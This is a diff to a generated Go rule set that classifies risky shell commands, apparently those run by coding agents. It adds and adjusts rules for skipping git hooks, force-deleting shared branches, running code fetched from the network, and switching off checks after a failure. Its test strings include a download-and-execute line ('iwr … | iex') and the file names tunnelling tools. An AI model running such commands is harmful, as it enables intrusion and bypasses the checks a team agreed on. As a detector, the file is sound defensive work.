@@ -5,7 +5,7 @@
 package classify
 
 // shippedSum is the SHA-256 of the rules.toml that this was generated from.
-const shippedSum = "71c29481228c00294460bdfc4c3389d78838983eb95a55c9b2440cc221399362"
+const shippedSum = "3fa329abacb00e5eddea4a9ccd0e0608bfb5c3c28a105964d670e848f9963936"
 
 var shipped = Set{
 	Classes: []ClassInfo{ClassInfo{
@@ -179,7 +179,7 @@ var shipped = Set{
 		},
 		ClassInfo{
 			ID:    "guard.tamper",
-			Title: "tampered with restrain",
+			Title: "switched off a check",
 			Risk:  true,
 		},
 		ClassInfo{
@@ -5538,10 +5538,10 @@ var shipped = Set{
 		Rule{
 			ID:             "git-branch-delete",
 			Class:          "git.destroy",
-			Severity:       2,
+			Severity:       1,
 			Undo:           "partly",
 			Description:    "deletes a local branch even if it is not merged",
-			Justification:  "commits that are only there become unreachable",
+			Justification:  "commits that are only there become unreachable, until the reflog forgets them as well",
 			Attack:         "T1485",
 			FalsePositives: "a branch whose pull request was merged",
 			Resource:       "branch",
@@ -5551,6 +5551,24 @@ var shipped = Set{
 			FlagsNot:       []string{"-c", "-C", "-m", "-M", "-t", "--track", "--no-track"},
 			Match:          []string{"git branch -D fix/a", "git branch --delete --force fix/b", "git branch -D a b"},
 			NotMatch:       []string{"git branch -d fix/a", "git branch -a", "git worktree list"},
+		},
+		Rule{
+			ID:             "git-branch-delete-shared",
+			Class:          "git.destroy",
+			Severity:       2,
+			Undo:           "partly",
+			Description:    "deletes a branch that others work on, or one that is not known, even if it is not merged",
+			Justification:  "commits that are only there become unreachable, and nobody expects that branch to be gone",
+			Attack:         "T1485",
+			FalsePositives: "a default branch that was renamed",
+			Resource:       "branch",
+			Command:        []string{"git"},
+			Args:           []string{"branch"},
+			Flags:          []string{"-D", "--force"},
+			FlagsNot:       []string{"-c", "-C", "-m", "-M", "-t", "--track", "--no-track"},
+			Operands:       []string{"main", "master", "trunk", "develop", "production", "prod", "staging", "release", "release/*", "release-*", "stable", "gh-pages", "￼"},
+			Match:          []string{"git branch -D main", "git branch --delete --force develop", "git branch -D fix/a release/2", "git branch -D $(git branch --merged)"},
+			NotMatch:       []string{"git branch -d main", "git branch -D fix/main", "git branch --list main"},
 		},
 		Rule{
 			ID:             "git-worktree-remove",
@@ -5702,18 +5720,50 @@ var shipped = Set{
 		Rule{
 			ID:             "git-skip-hooks",
 			Class:          "guard.tamper",
-			Severity:       2,
-			Undo:           "partly",
-			Description:    "commits or pushes past the repository's hooks",
-			Justification:  "the hooks are the checks that the team agreed on",
+			Severity:       1,
+			Undo:           "yes",
+			Description:    "commits past the repository's hooks",
+			Justification:  "the hooks are the checks that the team agreed on; a commit can still be checked before it is pushed",
 			Attack:         "T1562",
 			FalsePositives: "a hook that is broken",
 			Resource:       "hook",
 			Command:        []string{"git"},
-			Args:           []string{"commit|push|merge|rebase|am"},
+			Args:           []string{"commit|merge|rebase|am"},
 			Flags:          []string{"--no-verify"},
-			Match:          []string{"git commit --no-verify -m x", "git push --no-verify", "git commit -m x --no-verify --amend"},
+			Match:          []string{"git commit --no-verify -m x", "git merge --no-verify topic", "git commit -m x --no-verify --amend"},
 			NotMatch:       []string{"git commit -m x", "git push", "git log --no-merges"},
+		},
+		Rule{
+			ID:             "git-skip-hooks-short",
+			Class:          "guard.tamper",
+			Severity:       1,
+			Undo:           "yes",
+			Description:    "commits past the repository's hooks",
+			Justification:  "the hooks are the checks that the team agreed on; a commit can still be checked before it is pushed",
+			Attack:         "T1562",
+			FalsePositives: "a hook that is broken",
+			Resource:       "hook",
+			Command:        []string{"git"},
+			Args:           []string{"commit"},
+			Flags:          []string{"-n"},
+			Match:          []string{"git commit -n -m x", "git commit -nm x", "git commit --amend -n"},
+			NotMatch:       []string{"git commit -m -n", "git commit -am x", "git merge -n topic"},
+		},
+		Rule{
+			ID:             "git-push-past-hooks",
+			Class:          "guard.tamper",
+			Severity:       2,
+			Undo:           "partly",
+			Description:    "pushes past the repository's hooks",
+			Justification:  "the hooks are the checks that the team agreed on, and others see what is pushed",
+			Attack:         "T1562",
+			FalsePositives: "a hook that is broken",
+			Resource:       "hook",
+			Command:        []string{"git"},
+			Args:           []string{"push"},
+			Flags:          []string{"--no-verify"},
+			Match:          []string{"git push --no-verify", "git push origin fix/a --no-verify", "git push -u --no-verify origin fix/a"},
+			NotMatch:       []string{"git push", "git push --verbose", "git commit --no-verify -m x"},
 		},
 		Rule{
 			ID:             "git-config-code",
@@ -6091,8 +6141,9 @@ var shipped = Set{
 			Command:        []string{"gh", "glab", "hub"},
 			Args:           []string{"repo create|edit|fork|new", "repo create *", "create"},
 			Flags:          []string{"--public", "--visibility=public", "--source", "--push"},
+			FlagsNot:       []string{"--private", "--internal", "--visibility=private", "--visibility=internal"},
 			Match:          []string{"gh repo create dump-2026 --public", "gh repo edit acme/site --visibility=public", "gh repo create x --public --source . --push"},
-			NotMatch:       []string{"gh repo create x --private", "gh repo view", "gh repo list --visibility=public"},
+			NotMatch:       []string{"gh repo create x --private", "gh repo view", "gh repo list --visibility=public", "gh repo create x --private --source=. --push"},
 		},
 		Rule{
 			ID:             "repository-made-public",
@@ -6521,8 +6572,10 @@ var shipped = Set{
 			FalsePositives: "a documented installer",
 			Resource:       "command",
 			Command:        []string{"iex", "Invoke-Expression", "IEX", "invoke-expression"},
+			FlagsNot:       []string{"-S", "-r", "-pa", "-pz", "--sname", "--name", "--remsh", "--cookie", "--erl", "--dot-iex", "-h", "--help", "-v", "--version"},
+			OperandNot:     []string{"*.ex", "*.exs"},
 			Match:          []string{"iex $payload", "Invoke-Expression $code", "iwr https://example.com/x.ps1 | iex"},
-			NotMatch:       []string{"Invoke-WebRequest https://example.com", "pwsh -File build.ps1", "iexplore"},
+			NotMatch:       []string{"Invoke-WebRequest https://example.com", "pwsh -File build.ps1", "iexplore", "iex -S mix phx.server", "iex --sname a --remsh b", "iex notes.exs"},
 		},
 		Rule{
 			ID:             "powershell-hidden",
@@ -8539,7 +8592,7 @@ var shipped = Set{
 		},
 		Sequence{
 			ID:     "tamper-then-act",
-			Title:  "restrain tampered with → destruction or sending",
+			Title:  "a check switched off → destruction or sending",
 			Attack: []string{"T1562.001"},
 			Stages: [][]Class{[]Class{"guard.tamper"},
 				[]Class{"infra.destroy", "api.destroy", "db.destroy", "file.destroy", "git.destroy", "backup.destroy", "data.send", "credential.read"},
@@ -8635,6 +8688,18 @@ var shipped = Set{
 			Level:       "elevated",
 		},
 		Sequence{
+			ID:     "failure-then-unchecked",
+			Title:  "failure → the check that failed is switched off",
+			Attack: []string{"T1562"},
+			Stages: [][]Class{[]Class{"failed:git.*", "failed:build", "failed:test"},
+				[]Class{"guard.tamper"},
+			},
+			WithinSteps: 5,
+			Within:      1800000000000,
+			Raises:      2,
+			Level:       "elevated",
+		},
+		Sequence{
 			ID:     "download-then-execute",
 			Title:  "download → code from the network is run",
 			Attack: []string{"T1105", "T1059"},
@@ -8702,7 +8767,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "7z",
 				Program: 24,
-				Rules:   []uint16{41, 325},
+				Rules:   []uint16{41, 328},
 			},
 			nameEntry{
 				Name:    "7za",
@@ -8723,7 +8788,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Add-MpPreference",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "Clear-Content",
@@ -8738,7 +8803,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Clear-EventLog",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "Clear-RecycleBin",
@@ -8757,12 +8822,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Disable-WindowsOptionalFeature",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "Enter-PSSession",
 				Program: -1,
-				Rules:   []uint16{344},
+				Rules:   []uint16{347},
 			},
 			nameEntry{
 				Name:    "Format-Volume",
@@ -8772,12 +8837,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Get-ChildItem",
 				Program: 7,
-				Rules:   []uint16{15, 343},
+				Rules:   []uint16{15, 346},
 			},
 			nameEntry{
 				Name:    "Get-Clipboard",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "Get-Content",
@@ -8800,7 +8865,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "IEX",
 				Program: -1,
-				Rules:   []uint16{322},
+				Rules:   []uint16{325},
 			},
 			nameEntry{
 				Name:    "Initialize-Disk",
@@ -8810,17 +8875,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "InstallUtil.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "Invoke-Command",
 				Program: -1,
-				Rules:   []uint16{344},
+				Rules:   []uint16{347},
 			},
 			nameEntry{
 				Name:    "Invoke-Expression",
 				Program: -1,
-				Rules:   []uint16{322},
+				Rules:   []uint16{325},
 			},
 			nameEntry{
 				Name:    "Invoke-RestMethod",
@@ -8846,12 +8911,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "New-ItemProperty",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name:    "New-Service",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name:    "Out-File",
@@ -8860,12 +8925,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "PsExec.exe",
 				Program: -1,
-				Rules:   []uint16{367},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "PsExec64.exe",
 				Program: -1,
-				Rules:   []uint16{367},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "R",
@@ -8874,12 +8939,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Register-ScheduledTask",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name:    "Remove-EventLog",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "Remove-Item",
@@ -8898,7 +8963,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Remove-Service",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "Reset-PhysicalDisk",
@@ -8908,12 +8973,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Restart-Computer",
 				Program: -1,
-				Rules:   []uint16{377},
+				Rules:   []uint16{380},
 			},
 			nameEntry{
 				Name:    "Restart-Service",
 				Program: -1,
-				Rules:   []uint16{377},
+				Rules:   []uint16{380},
 			},
 			nameEntry{
 				Name:    "Rscript",
@@ -8930,17 +8995,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Set-Date",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "Set-ExecutionPolicy",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "Set-ItemProperty",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name: "Set-Location",
@@ -8948,32 +9013,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Set-MpPreference",
 				Program: -1,
-				Rules:   []uint16{348, 379},
+				Rules:   []uint16{351, 382},
 			},
 			nameEntry{
 				Name:    "Set-Service",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "Start-BitsTransfer",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "Stop-Computer",
 				Program: -1,
-				Rules:   []uint16{377},
+				Rules:   []uint16{380},
 			},
 			nameEntry{
 				Name:    "Stop-Process",
 				Program: 63,
-				Rules:   []uint16{342, 345, 375},
+				Rules:   []uint16{345, 348, 378},
 			},
 			nameEntry{
 				Name:    "Stop-Service",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "Test-Path",
@@ -8982,7 +9047,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Uninstall-WindowsFeature",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "VBoxManage",
@@ -9044,7 +9109,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "adduser",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "aerich",
@@ -9068,7 +9133,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "agent",
 				Program: -1,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "agent-browser",
@@ -9085,7 +9150,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aider",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "air",
@@ -9135,12 +9200,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "amazon-q",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "amp",
 				Program: 66,
-				Rules:   []uint16{387, 389},
+				Rules:   []uint16{390, 392},
 			},
 			nameEntry{
 				Name:    "amplify",
@@ -9155,7 +9220,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "anaconda",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "ansible",
@@ -9197,7 +9262,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "apk",
 				Program: 44,
-				Rules:   []uint16{314, 362, 386},
+				Rules:   []uint16{317, 365, 389},
 			},
 			nameEntry{
 				Name:    "apparmor_parser",
@@ -9215,22 +9280,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "apt",
 				Program: 44,
-				Rules:   []uint16{362, 397},
+				Rules:   []uint16{365, 400},
 			},
 			nameEntry{
 				Name:    "apt-get",
 				Program: 44,
-				Rules:   []uint16{362, 397},
+				Rules:   []uint16{365, 400},
 			},
 			nameEntry{
 				Name:    "apt-key",
 				Program: -1,
-				Rules:   []uint16{363},
+				Rules:   []uint16{366},
 			},
 			nameEntry{
 				Name:    "aptitude",
 				Program: 44,
-				Rules:   []uint16{362},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name:    "ar",
@@ -9271,7 +9336,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "arp-scan",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "artillery",
@@ -9297,12 +9362,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "asdf",
 				Program: 44,
-				Rules:   []uint16{332},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "ash",
 				Program: -1,
-				Rules:   []uint16{319, 320, 365, 366},
+				Rules:   []uint16{322, 323, 368, 369},
 			},
 			nameEntry{
 				Name:    "asr",
@@ -9324,7 +9389,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "at",
 				Program: 64,
-				Rules:   []uint16{330},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "atlas",
@@ -9365,17 +9430,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "auditctl",
 				Program: 64,
-				Rules:   []uint16{348},
+				Rules:   []uint16{351},
 			},
 			nameEntry{
 				Name:    "auditpol",
 				Program: -1,
-				Rules:   []uint16{379},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "auggie",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "auth0",
@@ -9406,7 +9471,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "autossh",
 				Program: 56,
-				Rules:   []uint16{301, 344},
+				Rules:   []uint16{304, 347},
 			},
 			nameEntry{
 				Name:    "ava",
@@ -9424,7 +9489,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aws",
 				Program: 61,
-				Rules:   []uint16{20, 21, 40, 136, 137, 138, 139, 140, 141, 142, 143, 144, 152, 197, 198, 298, 306, 308, 310},
+				Rules:   []uint16{20, 21, 40, 136, 137, 138, 139, 140, 141, 142, 143, 144, 152, 197, 198, 301, 309, 311, 313},
 			},
 			nameEntry{
 				Name:    "aws-cdk",
@@ -9434,7 +9499,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aws-ses",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "aws-vault",
@@ -9452,12 +9517,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "az",
 				Program: 61,
-				Rules:   []uint16{18, 39, 40, 147, 148, 149, 199, 298, 306, 308},
+				Rules:   []uint16{18, 39, 40, 147, 148, 149, 199, 301, 309, 311},
 			},
 			nameEntry{
 				Name:    "azcopy",
 				Program: -1,
-				Rules:   []uint16{142, 298, 308},
+				Rules:   []uint16{142, 301, 311},
 			},
 			nameEntry{
 				Name:    "azd",
@@ -9467,12 +9532,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "b2",
 				Program: 29,
-				Rules:   []uint16{115, 308},
+				Rules:   []uint16{115, 311},
 			},
 			nameEntry{
 				Name:    "b2-cli",
 				Program: 61,
-				Rules:   []uint16{141, 142, 298},
+				Rules:   []uint16{141, 142, 301},
 			},
 			nameEntry{
 				Name:    "b2sum",
@@ -9532,7 +9597,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bash",
 				Program: 4,
-				Rules:   []uint16{319, 320, 365, 366},
+				Rules:   []uint16{322, 323, 368, 369},
 			},
 			nameEntry{
 				Name:    "bat",
@@ -9545,7 +9610,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "batch",
 				Program: 64,
-				Rules:   []uint16{330},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "bats",
@@ -9580,7 +9645,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bcdboot",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "bcdedit",
@@ -9628,7 +9693,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bettercap",
 				Program: -1,
-				Rules:   []uint16{43, 353},
+				Rules:   []uint16{43, 356},
 			},
 			nameEntry{
 				Name:    "betterleaks",
@@ -9638,7 +9703,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bfg",
 				Program: 50,
-				Rules:   []uint16{269},
+				Rules:   []uint16{270},
 			},
 			nameEntry{
 				Name:    "bfs",
@@ -9675,12 +9740,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bitsadmin",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "bitsadmin.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "black",
@@ -9694,7 +9759,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bless",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "blkdiscard",
@@ -9717,17 +9782,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bootctl",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "bootrec",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "bore",
 				Program: -1,
-				Rules:   []uint16{299, 300},
+				Rules:   []uint16{302, 303},
 			},
 			nameEntry{
 				Name:    "borg",
@@ -9747,7 +9812,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bpftool",
 				Program: -1,
-				Rules:   []uint16{338},
+				Rules:   []uint16{341},
 			},
 			nameEntry{
 				Name:    "bq",
@@ -9764,7 +9829,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "brew",
 				Program: 44,
-				Rules:   []uint16{314, 331, 342, 357, 362, 397},
+				Rules:   []uint16{317, 334, 345, 360, 365, 400},
 			},
 			nameEntry{
 				Name:    "bridge",
@@ -9773,7 +9838,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bsdtar",
 				Program: 24,
-				Rules:   []uint16{41, 239, 325},
+				Rules:   []uint16{41, 239, 328},
 			},
 			nameEntry{
 				Name:    "btop",
@@ -9800,7 +9865,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "buildah",
 				Program: 62,
-				Rules:   []uint16{39, 191, 305},
+				Rules:   []uint16{39, 191, 308},
 			},
 			nameEntry{
 				Name: "builtin",
@@ -9808,12 +9873,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bun",
 				Program: 39,
-				Rules:   []uint16{102, 103, 104, 105, 106, 107, 113, 131, 158, 159, 303, 314, 315, 324},
+				Rules:   []uint16{102, 103, 104, 105, 106, 107, 113, 131, 158, 159, 306, 317, 318, 327},
 			},
 			nameEntry{
 				Name:    "bundle",
 				Program: 43,
-				Rules:   []uint16{324},
+				Rules:   []uint16{327},
 			},
 			nameEntry{
 				Name:    "bundle-exec",
@@ -9826,7 +9891,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bunx",
 				Program: 40,
-				Rules:   []uint16{303, 314, 318},
+				Rules:   []uint16{306, 317, 321},
 			},
 			nameEntry{
 				Name:    "bunzip2",
@@ -9844,7 +9909,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "busybox",
 				Program: 4,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "bw",
@@ -9875,7 +9940,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bzr",
 				Program: -1,
-				Rules:   []uint16{276},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "c++",
@@ -9897,7 +9962,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "caddy",
 				Program: 45,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "caffeinate",
@@ -9927,7 +9992,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cargo",
 				Program: 31,
-				Rules:   []uint16{28, 40, 113, 303, 304, 314, 324},
+				Rules:   []uint16{28, 40, 113, 306, 307, 317, 327},
 			},
 			nameEntry{
 				Name:    "cargo-watch",
@@ -9992,12 +10057,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "certutil",
 				Program: -1,
-				Rules:   []uint16{321, 363, 383},
+				Rules:   []uint16{324, 366, 386},
 			},
 			nameEntry{
 				Name:    "certutil.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "cf",
@@ -10012,7 +10077,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chage",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "chalice",
@@ -10027,12 +10092,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "changeset",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "charmcraft",
 				Program: 32,
-				Rules:   []uint16{303, 304},
+				Rules:   []uint16{306, 307},
 			},
 			nameEntry{
 				Name:    "chattr",
@@ -10067,22 +10132,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chisel",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{293},
 			},
 			nameEntry{
 				Name:    "chkconfig",
 				Program: 64,
-				Rules:   []uint16{331},
+				Rules:   []uint16{334},
 			},
 			nameEntry{
 				Name:    "chmod",
 				Program: 20,
-				Rules:   []uint16{232, 233, 317, 336},
+				Rules:   []uint16{232, 233, 320, 339},
 			},
 			nameEntry{
 				Name:    "choco",
 				Program: 44,
-				Rules:   []uint16{362, 386},
+				Rules:   []uint16{365, 389},
 			},
 			nameEntry{
 				Name:    "chown",
@@ -10091,7 +10156,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chpasswd",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "chroot",
@@ -10104,7 +10169,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chsh",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "cipher",
@@ -10144,7 +10209,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "claude",
 				Program: 66,
-				Rules:   []uint16{387, 389},
+				Rules:   []uint16{390, 392},
 			},
 			nameEntry{
 				Name:    "claudia",
@@ -10154,7 +10219,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "clawhub",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name: "clear",
@@ -10185,7 +10250,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cline",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "clippy-driver",
@@ -10206,7 +10271,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cloudflared",
 				Program: 45,
-				Rules:   []uint16{300},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "cloudquery",
@@ -10246,7 +10311,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cn",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "cockroach",
@@ -10276,7 +10341,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "codex",
 				Program: 66,
-				Rules:   []uint16{387, 389},
+				Rules:   []uint16{390, 392},
 			},
 			nameEntry{
 				Name:    "colima",
@@ -10315,7 +10380,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "composer",
 				Program: 44,
-				Rules:   []uint16{106, 324},
+				Rules:   []uint16{106, 327},
 			},
 			nameEntry{
 				Name:    "conan",
@@ -10328,7 +10393,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "conda",
 				Program: 41,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "configure",
@@ -10379,7 +10444,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "copilot",
 				Program: 66,
-				Rules:   []uint16{190, 387, 389},
+				Rules:   []uint16{190, 390, 392},
 			},
 			nameEntry{
 				Name:    "corepack",
@@ -10449,7 +10514,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "crane",
 				Program: 62,
-				Rules:   []uint16{39, 305, 306},
+				Rules:   []uint16{39, 308, 309},
 			},
 			nameEntry{
 				Name:    "createdb",
@@ -10476,12 +10541,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "croc",
 				Program: 56,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "crontab",
 				Program: 64,
-				Rules:   []uint16{330},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "cross",
@@ -10499,17 +10564,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "crush",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "cryptcat",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{293},
 			},
 			nameEntry{
 				Name:    "cryptsetup",
 				Program: 64,
-				Rules:   []uint16{224, 352},
+				Rules:   []uint16{224, 355},
 			},
 			nameEntry{
 				Name:    "crystal",
@@ -10522,17 +10587,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cscript",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "cscript.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "csh",
 				Program: -1,
-				Rules:   []uint16{365, 366},
+				Rules:   []uint16{368, 369},
 			},
 			nameEntry{
 				Name:    "cspell",
@@ -10545,7 +10610,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "csrutil",
 				Program: 64,
-				Rules:   []uint16{349, 370},
+				Rules:   []uint16{352, 373},
 			},
 			nameEntry{
 				Name:    "csvcut",
@@ -10588,12 +10653,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "curl",
 				Program: 52,
-				Rules:   []uint16{310},
+				Rules:   []uint16{313},
 			},
 			nameEntry{
 				Name:    "curl-upload",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "curlie",
@@ -10610,7 +10675,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cursor-agent",
 				Program: 66,
-				Rules:   []uint16{387, 389},
+				Rules:   []uint16{390, 392},
 			},
 			nameEntry{
 				Name:    "cut",
@@ -10619,7 +10684,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cvs",
 				Program: -1,
-				Rules:   []uint16{276},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "cwebp",
@@ -10662,12 +10727,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "darkhttpd",
 				Program: -1,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "dart",
 				Program: 32,
